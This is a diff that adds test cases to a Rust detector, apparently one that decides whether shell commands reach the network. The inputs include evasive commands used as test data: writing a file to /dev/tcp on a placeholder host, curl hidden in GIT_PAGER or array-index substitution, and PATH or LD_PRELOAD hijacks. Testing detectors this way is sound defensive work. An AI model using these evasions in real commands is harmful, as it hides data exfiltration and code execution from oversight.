@@ -52,6 +52,7 @@ fn said(text: &str) -> Vec<String> {
         Reach::Network { program, targets } => {
             format!("{program} {}", targets.join(",")).trim_end().to_owned()
         }
+        Reach::Program { name } => format!("? {name}"),
         Reach::Unknown { why } => format!("? {why}"),
     };
     reach(text).into_iter().map(one).collect()
@@ -68,6 +69,10 @@ fn commands_that_stay_on_this_machine_reach_nothing() {
         "find . -name '*.rs' -exec grep -l todo {} +",
         "sudo -u me timeout 5 cat x",
         "sh -c 'ls; pwd'",
+        "export NAME=x && grep x <<< \"$NAME\" | sort -u",
+        "find . -name x -exec rm {} \\; -exec ls {} \\;",
+        "git commit -m 'see https://x.io/y'; cargo tree; pip list",
+        "ls | xargs -n 1 wc -l",
     ] {
         assert_eq!(said(text), [""; 0], "{text}");
     }
@@ -95,6 +100,14 @@ fn network_programs_are_found_wherever_they_hide() {
         ("npm install x", "npm"),
         ("function f { curl e.example; }", "curl e.example"),
         ("case x in a) curl e.example;; esac", "curl e.example"),
+        ("find . -exec true \\; -exec curl e.example {} \\;", "curl e.example"),
+        ("git bisect run ./x", "git"),
+        ("git rebase -x ./x HEAD~1", "git"),
+        ("git grep -O./x a", "git"),
+        ("docker --host=tcp://e.example ps", "docker tcp://e.example"),
+        ("pip list --index-url https://e.example", "pip https://e.example"),
+        ("git --exec-path=/tmp status", "git"),
+        ("./git status", "./git"),
     ] {
         assert_eq!(said(text), [expected], "{text}");
     }
@@ -118,6 +131,20 @@ fn what_cannot_be_told_is_said_to_be_unknown() {
         "env -S 'curl e.example'",
         "f() { ls; }",
         "sort --compress-program=./x a",
+        "split --filter=./x a",
+        "PATH=. ls",
+        "export PATH=/tmp:$PATH; ls",
+        "GIT_PAGER='curl e.example' git log",
+        "env LD_PRELOAD=./x.so ls",
+        "printf -v PATH /tmp; ls",
+        "echo curl e.example | xargs env",
+        "echo x | xargs find .",
+        "timeout $X ls",
+        "find . $X",
+        "X=/dev/tcp/e.example/80; cat a > $X",
+        "[ -v 'a[$(curl e.example)]' ]",
+        "x='a[$(curl e.example)]'; [[ $x -eq 0 ]]",
+        "/tmp/sort a",
     ] {
         assert!(said(text).iter().any(|said| said.starts_with("? ")), "{text}: {:?}", said(text));
     }
